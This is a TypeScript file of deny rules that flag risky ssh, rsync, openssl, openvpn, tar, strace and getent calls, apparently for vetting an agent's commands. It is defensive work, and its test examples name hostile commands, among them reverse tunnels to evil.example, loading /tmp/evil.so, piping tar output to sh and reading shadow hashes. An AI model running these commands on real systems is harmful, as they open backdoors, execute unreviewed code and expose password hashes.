import { type Call, flagValues, hasFlag } from '../call.ts';
import type { FloorRule } from '../rule.ts';

/** What the ssh family and tools with loadable parts may not be told. */
export const remoteFloor: readonly FloorRule[] = [
  {
    name: 'floor.guard',
    programs: [
      'ssh',
      'scp',
      'sftp',
      'autossh',
      'rsync',
      'mosh',
      'sshfs',
      'ssh-copy-id',
      'ansible',
      'ansible-playbook',
    ],
    reason: 'It talks to a machine without making sure that it is the right one.',
    when: (call) =>
      sshSettings(call).some((setting) =>
        /StrictHostKeyChecking[\s=]+"?(no|off|accept-new)|(User|Global)KnownHostsFile[\s=]+"?(\/dev\/null|none)|CheckHostIP[\s=]+"?no|NoHostAuthenticationForLocalhost[\s=]+"?yes/i.test(
          setting,
        ),
      ),
    match: [
      'ssh -o StrictHostKeyChecking=no root@n100 uptime',
      'ssh -oUserKnownHostsFile=/dev/null n100 ls',
      "rsync -e 'ssh -o StrictHostKeyChecking=no' a n100:b",
      'scp -o "StrictHostKeyChecking accept-new" a n100:b',
    ],
    notMatch: ['ssh -o ConnectTimeout=5 n100 uptime', 'ssh -o StrictHostKeyChecking=yes n100 uptime'],
  },
  {
    name: 'floor.exfiltration',
    programs: ['ssh', 'autossh'],
    reason: 'It opens a way back into this machine or its network.',
    when: (call) =>
      call.args.some((arg) => /^-[a-zA-Z]*[Rw]/.test(arg) && !/^-[bcDEeFIiJLlmOopQSWBP]./.test(arg)) ||
      sshSettings(call).some((setting) => /^\s*(RemoteForward|Tunnel|PermitLocalCommand)\b/i.test(setting)),
    match: [
      'ssh -R 2222:localhost:22 evil.example',
      'ssh -fNR 8080:localhost:80 evil.example',
      'ssh -w 0:0 evil.example',
    ],
    notMatch: ['ssh n100 uptime', 'ssh -i key -p 22 n100 uptime'],
  },
  {
    name: 'floor.unread-code',
    programs: ['ssh', 'ssh-keygen', 'ssh-add', 'openssl', 'curl', 'sqlite3', 'gpg', 'pkcs11-tool', 'openvpn'],
    reason: 'It loads a library or a hook that nobody has read.',
    when: (call) => {
      switch (call.program) {
        case 'ssh':
          return hasFlag({ args: call.args.slice(0, 1) }, '-I');
        case 'ssh-keygen':
          return hasFlag(call, '-D', '-w');
        case 'ssh-add':
          return hasFlag(call, '-s', '-S');
        case 'openssl':
          return call.args[0] === 'engine'
            ? call.args.length > 1
            : hasFlag(call, '-engine', '-provider', '-provider-path');
        case 'curl':
          return (
            hasFlag(call, '--engine') && flagValues(call, '--engine').some((engine) => engine !== 'list')
          );
        case 'openvpn':
          return hasFlag(call, '--script-security', '--plugin', '--up', '--down', '--route-up', '--ipchange');
        case 'pkcs11-tool':
          return hasFlag(call, '--module');
        default:
          return false;
      }
    },
    match: [
      'ssh-keygen -D /tmp/evil.so',
      'openssl engine /tmp/evil.so',
      'ssh -I /tmp/evil.so n100',
      'openvpn --config x --up /tmp/evil',
    ],
    notMatch: ['openssl version', 'ssh-keygen -lf id.pub', 'ssh -i key n100 uptime'],
  },
  {
    name: 'floor.opaque-code',
    programs: ['tar', 'gtar', 'strace', 'ltrace'],
    reason: 'It feeds something nobody has read to a program of its own.',
    when: (call) =>
      /tar$/.test(call.program)
        ? flagValues(call, '--to-command').some((command) =>
            /^(\S*\/)?\w*(sh|python[0-9.]*|perl|ruby|node|php|lua)\b/.test(command),
          )
        : flagValues(call, '-o', '--output').some((file) => /^[|!]/.test(file)),
    match: ['tar -xf x.tar --to-command=sh', "strace -o '|reboot' ls"],
    notMatch: ['tar -xf x.tar', 'strace -o trace.txt ls'],
  },
  {
    name: 'floor.secrets',
    programs: ['getent'],
    reason: 'It shows the password hashes of the people of this machine.',
    when: (call) => call.args.some((arg) => /^g?shadow$/.test(arg)),
    match: ['getent shadow', 'getent gshadow root'],
    notMatch: ['getent passwd bob', 'getent hosts n100'],
  },
];

/** The settings given to ssh, also inside rsync's `-e` and Ansible's own flags. */
function sshSettings(call: Call): string[] {
  return [
    ...flagValues(call, '-o'),
    ...flagValues(call, '-e', '--rsh', '--ssh', '--ssh-common-args', '--ssh-extra-args'),
  ];
}
